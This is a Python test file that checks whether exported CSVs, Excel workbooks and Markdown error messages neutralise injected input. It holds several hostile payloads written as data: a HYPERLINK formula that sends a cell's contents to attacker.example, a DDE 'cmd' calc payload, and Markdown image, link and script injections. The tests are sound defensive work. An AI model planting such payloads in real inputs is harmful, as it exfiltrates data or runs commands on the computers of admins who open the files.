"""Injection through what people type (issue 17): spreadsheet formulas and Markdown.

- A failed sign-in name ``=HYPERLINK("http://…"&A2,"open")`` became a live formula when an
  admin opened the audit CSV in a spreadsheet; names and values of the registry go into list
  CSVs and workbooks the same way.
- A targets-file header holding a backtick broke out of the error message's code span, and a
  Markdown image after it made the admin's browser fetch a URL. Messages are rendered here
  with markdown-it (CommonMark, as Streamlit's renderer) and must hold no image, link or
  HTML.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa
from argon2 import PasswordHasher, profiles
from markdown_it import MarkdownIt

from core.text import FORMULA_STARTS, code_span, markdown_text
from data_access import admin, users
from data_access.context import UserContext
from exports.lists import write_list_sheets
from exports.targets import TargetFileError, read_targets
from exports.workbook import build_workbook
from views.referrals import write_csv

ADMIN = UserContext("admin", username="ada")
HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A2,"open")'
PAYLOADS = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
IMAGE = "x` ![seen](http://attacker.example/pixel.png) `"


def spreadsheet_formulas(cells) -> list[str]:
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]


def test_a_failed_sign_in_name_is_inert_in_the_audit_csv(store: sa.Engine, monkeypatch):
    monkeypatch.setattr(users, "HASHER", PasswordHasher.from_parameters(profiles.CHEAPEST))
    for name in PAYLOADS:
        with pytest.raises(users.AuthError):
            users.authenticate(store, name, "a guess")
    rows = list(csv.reader(io.StringIO(admin.audit_csv(store, ADMIN).decode("utf-8"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not spreadsheet_formulas(cells), spreadsheet_formulas(cells)
    # The names are all there, as text (an apostrophe before them).
    usernames = [row[1] for row in rows[1:]]
    assert "'" + HYPERLINK.lower()[:100] in usernames


def test_list_csvs_hold_no_formula():
    chunk = pd.DataFrame({"person_name": list(PAYLOADS), "national_id": ["-1234"] * 6,
                          "rows": range(6)}, dtype=object)
    data = write_csv([chunk], columns=["person_name", "national_id", "rows"],
                     labels=["Name", "National id", "Rows"])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not spreadsheet_formulas(cells), spreadsheet_formulas(cells)
    assert rows[1][0] == "'" + HYPERLINK and rows[1][2] == "0"  # numbers stay numbers


def formula_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [f"{sheet.title}!{cell.coordinate}: {cell.value}" for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_workbooks_hold_no_formula():
    figures = pd.DataFrame([{
        "indicator_id": "cov.population", "area_id": "A1", "area_name": name, "level": 2,
        "programme_id": None, "breakdown": None, "period_start": None,
        "period_end": dt.date(2026, 10, 31), "numerator": 5, "denominator": 10, "value": 0.5,
    } for name in PAYLOADS[:1]], dtype=object)
    data = build_workbook(figures, level=2, level_name="District", as_of=dt.date(2026, 10, 31),
                          period_start=dt.date(2026, 8, 1), source=HYPERLINK)
    assert not formula_cells(data), formula_cells(data)
    book = openpyxl.Workbook(write_only=True)
    chunk = pd.DataFrame({"person_name": list(PAYLOADS)}, dtype=object)
    write_list_sheets(book, "Persons", [("person_name", "=Name")], [chunk])
    out = io.BytesIO()
    book.save(out)
    assert not formula_cells(out.getvalue()), formula_cells(out.getvalue())
    names = [c.value for c in openpyxl.load_workbook(out)["Persons"]["A"]]
    assert names[1] == HYPERLINK  # the text exactly as typed


def rendered(message: str) -> str:
    return MarkdownIt("commonmark").render(message)


def test_a_targets_file_header_cannot_break_out_of_its_message():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Targets"
    sheet.append(["indicator_id", IMAGE, "[click](http://attacker.example)", "<img src=x>"])
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(TargetFileError) as caught:
        read_targets(out.getvalue(), known_areas=set(), known_programmes=set())
    html = rendered(str(caught.value))
    assert "<img" not in html and "<a " not in html and "&lt;img" in html
    assert "attacker.example" in html  # quoted, as text


@pytest.mark.parametrize("text", [IMAGE, "[a](http://x)", "<script>x</script>", ":red[big]",
                                  "# heading", "- item", "**bold** _em_", "``double``"])
def test_quoted_text_renders_as_text(text: str):
    for html in (rendered(f"before {code_span(text)} after"),
                 rendered(f"before {markdown_text(text)} after")):
        assert "<img" not in html and "<a " not in html and "<script" not in html
        assert "<h1" not in html and "<li" not in html and "<strong" not in html
